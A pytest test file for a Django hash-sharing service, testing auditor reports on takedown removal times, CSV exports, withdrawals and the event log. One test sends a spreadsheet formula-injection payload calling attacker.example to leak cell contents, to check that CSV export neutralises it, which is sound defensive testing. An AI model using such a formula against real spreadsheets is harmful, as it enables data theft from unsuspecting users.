"""Auditors' reports and the event log, as an auditor reads them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from core.ledger import Event
from exchange import outcomes as outcome_services
from hashes.models import Hash, Listing
from members.models import Program
from tests.conftest import Caller
from tests.signing import Signer, random_pdq


def read_feed(caller: Caller) -> None:
    after = 0
    while True:
        page = caller.client.get(f"/api/v1/feed?after={after}").json()
        after = page["next"]
        if not page["has_more"]:
            return


def at(hours_after: float, base: dt.datetime) -> str:
    return (base + dt.timedelta(hours=hours_after)).isoformat()


@pytest.fixture
def history(signer_a: Signer, platform_b: Caller) -> dict:
    """Four hashes listed 100 hours ago; platform B removed three of them after 1, 10 and 60 hours."""
    ids = [r["hash_id"] for r in signer_a.submit(*[signer_a.submission() for _ in range(4)]).json()["results"]]
    listed = timezone.now() - dt.timedelta(hours=100)
    Listing.objects.filter(hash_id__in=ids).update(created_at=listed)
    read_feed(platform_b)
    items = [
        {
            "hash_id": ids[i],
            "program": "take-it-down",
            "kind": "removed",
            "occurred_at": at(hours, listed),
            "client_ref": f"rm-{i}",
        }
        for i, hours in enumerate([1, 10, 60])
    ] + [
        {
            "hash_id": ids[3],
            "program": "take-it-down",
            "kind": "matched",
            "occurred_at": at(2, listed),
            "client_ref": "m",
            "count": 5,
        }
    ]
    assert platform_b.client.post("/api/v1/outcomes", {"outcomes": items}, format="json").json()["accepted"] == 4
    return {"ids": ids, "listed": listed}


def test_a_program_report_shows_removal_times_against_the_deadline(history: dict, auditor: Caller) -> None:
    body = auditor.client.get("/api/v1/reports/programs/take-it-down").json()
    assert body["hashes"]["distributed"] == 4
    assert body["removal_deadline_hours"] == 48
    rows = {row["member"]: row for row in body["members"]}
    b = rows["platform-b"]
    assert b["outcomes"]["removed"] == 3 and b["outcomes"]["matched"] == 1 and b["outcomes"]["items"] == 8
    removals = b["removals"]
    assert removals["count"] == 3
    assert removals["p50_hours"] == pytest.approx(10, abs=0.01)
    assert removals["p90_hours"] == pytest.approx(50, abs=0.01)  # 10 + 0.8 × (60 − 10)
    assert removals["max_hours"] == pytest.approx(60, abs=0.01)
    assert (removals["within_deadline"], removals["share_within_deadline"]) == (2, pytest.approx(0.6667, abs=1e-4))
    assert b["feed"]["last_read_at"] is not None
    assert (b["feed"]["lag_seconds"], b["feed"]["unread_since"]) == (0, None)  # read everything distributed
    assert rows["platform-a"]["feed"]["unread_since"] is not None  # never read its feed: behind since the first
    assert rows["platform-a"]["removals"]["count"] == 0


def test_reports_come_as_csv_too(history: dict, auditor: Caller) -> None:
    response = auditor.client.get("/api/v1/reports/programs/take-it-down?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    b = next(row for row in rows if row["member"] == "platform-b")
    assert b["removals_count"] == "3" and b["outcomes_matched"] == "1" and b["program"] == "take-it-down"


def test_a_member_report_and_a_period(history: dict, auditor: Caller) -> None:
    listed = history["listed"]
    start = (listed + dt.timedelta(hours=5)).isoformat()
    end = (listed + dt.timedelta(hours=20)).isoformat()
    body = auditor.client.get("/api/v1/reports/members/platform-b", {"from": start, "to": end}).json()
    [row] = body["programs"]
    assert (row["program"], row["removals"]["count"], row["outcomes"]["matched"]) == ("take-it-down", 1, 0)
    by_date = auditor.client.get("/api/v1/reports/members/platform-b?from=2020-01-01&to=2020-02-01").json()
    assert by_date["programs"][0]["removals"]["count"] == 0


def test_withdrawal_acknowledgements_in_the_report(
    history: dict, signer_a: Signer, platform_b: Caller, auditor: Caller
) -> None:
    values = dict(Hash.objects.filter(pk__in=history["ids"]).values_list("pk", "value"))
    for hash_id in history["ids"][:2]:
        signer_a.client.post("/api/v1/withdrawals", signer_a.withdrawal(values[hash_id]), format="json")
    outcome_services.obligations_project()
    platform_b.client.post(
        "/api/v1/outcomes",
        {
            "outcomes": [
                {
                    "hash_id": history["ids"][0],
                    "program": "take-it-down",
                    "kind": "deleted_after_withdrawal",
                    "occurred_at": timezone.now().isoformat(),
                    "client_ref": "del",
                }
            ]
        },
        format="json",
    )
    row = next(
        r
        for r in auditor.client.get("/api/v1/reports/programs/take-it-down").json()["members"]
        if r["member"] == "platform-b"
    )
    assert {k: row["withdrawals"][k] for k in ("owed", "acknowledged", "on_time", "open", "overdue")} == {
        "owed": 2,
        "acknowledged": 1,
        "on_time": 1,
        "open": 1,
        "overdue": 0,
    }
    assert row["withdrawals"]["ack_max_hours"] is not None


def test_a_report_costs_the_same_number_of_queries_however_many_outcomes(
    signer_a: Signer, platform_b: Caller, auditor: Caller
) -> None:
    auditor.client.get("/api/v1/me")  # the key's first use is recorded once; keep it out of the count
    counts = []
    for round_ in range(2):
        ids = [r["hash_id"] for r in signer_a.submit(*[signer_a.submission() for _ in range(20)]).json()["results"]]
        read_feed(platform_b)
        platform_b.client.post(
            "/api/v1/outcomes",
            {
                "outcomes": [
                    {
                        "hash_id": i,
                        "program": "take-it-down",
                        "kind": kind,
                        "occurred_at": timezone.now().isoformat(),
                        "client_ref": f"{round_}-{i}-{kind}",
                    }
                    for i in ids
                    for kind in ("matched", "removed")
                ]
            },
            format="json",
        )
        with CaptureQueriesContext(connection) as queries:
            assert auditor.client.get("/api/v1/reports/programs/take-it-down").status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("from=yesterday", "from"),
        ("to=2026-13-40", "to"),
        ("from=2026-02-01&to=2026-01-01", "from"),
        ("format=xml", "format"),
    ],
)
def test_bad_periods_are_400s_naming_the_field(auditor: Caller, program: Program, query: str, field: str) -> None:
    response = auditor.client.get(f"/api/v1/reports/programs/take-it-down?{query}")
    assert response.status_code in (400, 404)
    if response.status_code == 400:
        assert field in response.json()["errors"]


def test_unknown_programs_and_members_are_404(auditor: Caller, program: Program) -> None:
    assert auditor.client.get("/api/v1/reports/programs/nope").status_code == 404
    assert auditor.client.get("/api/v1/reports/members/nobody").status_code == 404


def test_auditors_read_the_whole_event_log_with_leaf_hashes(signer_a: Signer, auditor: Caller) -> None:
    signer_a.submit(signer_a.submission(random_pdq()))
    events, after = [], 0
    while True:
        page = auditor.client.get(f"/api/v1/events?after={after}&limit=3").json()
        events += page["events"]
        after = page["next"]
        if not page["has_more"]:
            break
    assert [e["seq"] for e in events] == list(Event.objects.values_list("seq", flat=True))
    stored = {e.seq: e for e in Event.objects.all()}
    assert all(stored[e["seq"]].compute_leaf_hash() == e["leaf_hash"] for e in events)
    assert {"member.created", "key.registered", "hash.added"} <= {e["kind"] for e in events}


def test_the_admin_dashboard_shows_the_figures_and_charts(history: dict, admin_client) -> None:  # noqa: ANN001
    from django.test import Client

    page = admin_client.get("/admin/dashboard/?program=take-it-down&days=90")
    assert page.status_code == 200
    html = page.content.decode()
    assert "platform-b" in html and "<svg" in html and "Removals reported" in html
    # Nothing loaded from elsewhere (a CDN): every script, style and image is this origin's.
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", html), "an external resource"
    assert "Dashboard" in admin_client.get("/admin/").content.decode()
    assert Client().get("/admin/dashboard/").status_code == 302  # admins only


def test_a_member_written_value_cannot_become_a_spreadsheet_formula_in_csv(
    history: dict, auditor: Caller, platform_b: Caller
) -> None:
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
    response = platform_b.client.post(
        "/api/v1/enrollments", {"program": "take-it-down", "state": "paused", "reason": formula}, format="json"
    )
    assert response.status_code in (200, 201), response.json()
    text = auditor.client.get("/api/v1/reports/programs/take-it-down?format=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    b = next(row for row in rows if row["member"] == "platform-b")
    assert b["enrollment_reason"] != formula and b["enrollment_reason"].endswith(formula[1:])
    assert not b["enrollment_reason"].startswith(("=", "+", "-", "@"))


def test_matches_through_the_match_api_are_reported_per_member_and_program(
    signer_a: Signer, platform_b: Caller, auditor: Caller
) -> None:
    values = [random_pdq(), random_pdq()]
    signer_a.submit(*[signer_a.submission(value) for value in values])
    queries = [{"signal_type": "pdq", "value": value} for value in [*values, values[0]]]
    assert platform_b.client.post("/api/v1/match", {"queries": queries}, format="json").json()["matched"] == 3
    rows = {row["member"]: row for row in auditor.client.get("/api/v1/reports/programs/take-it-down").json()["members"]}
    assert rows["platform-b"]["match_api"] == {"matches": 3}
    assert rows["platform-b"]["outcomes"]["matched"] == 0  # reported outcomes are counted apart
    assert rows["platform-a"]["match_api"] == {"matches": 0}
    csv_rows = list(
        csv.DictReader(
            io.StringIO(auditor.client.get("/api/v1/reports/programs/take-it-down?format=csv").content.decode())
        )
    )
    assert {row["member"]: row["match_api_matches"] for row in csv_rows}["platform-b"] == "3"
